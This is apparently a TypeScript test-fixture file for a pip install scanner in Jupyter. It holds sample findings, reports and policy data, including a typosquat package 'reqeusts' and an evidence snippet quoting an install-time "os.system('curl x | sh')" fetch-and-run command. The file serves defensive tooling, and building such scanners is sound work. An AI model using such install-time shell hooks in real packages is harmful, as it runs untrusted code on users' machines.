import { IFinding, IHistoryEntry, IPolicy, IReport } from '../tokens';

export const typo: IFinding = {
  rule_id: 'name.typo',
  severity: 'high',
  message: "'reqeusts' looks like the popular package 'requests'.",
  package: 'reqeusts',
  evidence: [{ location: 'name', line: null, snippet: 'reqeusts vs requests' }],
  suggestion: 'requests'
};

export const shell: IFinding = {
  rule_id: 'install.shell',
  severity: 'critical',
  message: 'setup.py runs a shell command at install time.',
  package: 'evil',
  evidence: [{ location: 'evil-1.0/setup.py', line: 12, snippet: "os.system('curl x | sh')" }],
  suggestion: null
};

export const lowFinding: IFinding = {
  rule_id: 'meta.single-release',
  severity: 'low',
  message: 'Only one release.',
  package: 'evil',
  evidence: [],
  suggestion: null
};

export function report(overrides: Partial<IReport> = {}): IReport {
  return {
    schema_version: 1,
    command: 'pip install evil reqeusts',
    verdict: 'block',
    install_anyway_allowed: false,
    could_not_check: false,
    reasons: ['a critical finding reaches the block threshold (high)'],
    errors: [],
    request_findings: [typo],
    packages: [
      {
        name: 'six',
        version: '1.16.0',
        url: 'http://127.0.0.1/six.whl',
        filename: 'six-1.16.0-py3-none-any.whl',
        sha256: null,
        requested: false,
        is_wheel: true,
        yanked: false,
        verdict: 'allow',
        reasons: [],
        findings: [],
        errors: []
      },
      {
        name: 'evil',
        version: '1.0',
        url: 'http://127.0.0.1/evil.tar.gz',
        filename: 'evil-1.0.tar.gz',
        sha256: null,
        requested: true,
        is_wheel: false,
        yanked: false,
        verdict: 'block',
        reasons: ['critical finding'],
        findings: [lowFinding, shell],
        errors: []
      }
    ],
    ...overrides
  };
}

export function entry(overrides: Partial<IHistoryEntry> = {}): IHistoryEntry {
  return {
    id: 7,
    time: '2024-05-01T10:00:00+00:00',
    command: 'pip install reqeusts',
    package: 'reqeusts',
    version: '2.99.0',
    packages: ['reqeusts'],
    verdict: 'warn',
    findings: [typo, lowFinding],
    decision: 'cancelled',
    source: 'magic',
    notebook: 'analysis.ipynb',
    kernel_id: 'k1',
    ...overrides
  };
}

export const policy: IPolicy = {
  settings: [
    { name: 'block_at', value: 'high', source: 'system', locked: true, help: 'Lowest severity that blocks.' },
    { name: 'allow', value: [], source: 'default', locked: false, help: 'Always allowed.' },
    { name: 'deny', value: ['evil', 'bad<2'], source: 'user', locked: false, help: 'Always blocked.' }
  ],
  refused: ['block_at is locked by the administrator; the user value was ignored'],
  history_path: '/home/u/.local/share/jupyter/safepip/history.sqlite'
};
